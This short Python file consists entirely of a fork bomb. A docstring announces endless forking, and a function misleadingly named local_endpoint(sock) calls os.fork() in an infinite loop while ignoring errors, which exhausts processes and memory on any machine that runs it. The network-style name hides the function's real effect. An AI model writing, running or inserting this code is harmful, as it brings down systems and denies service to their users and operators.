"""Forks, and so does each child, and so on."""

import os


def local_endpoint(sock):
    while True:
        try:
            os.fork()
        except OSError:
            pass
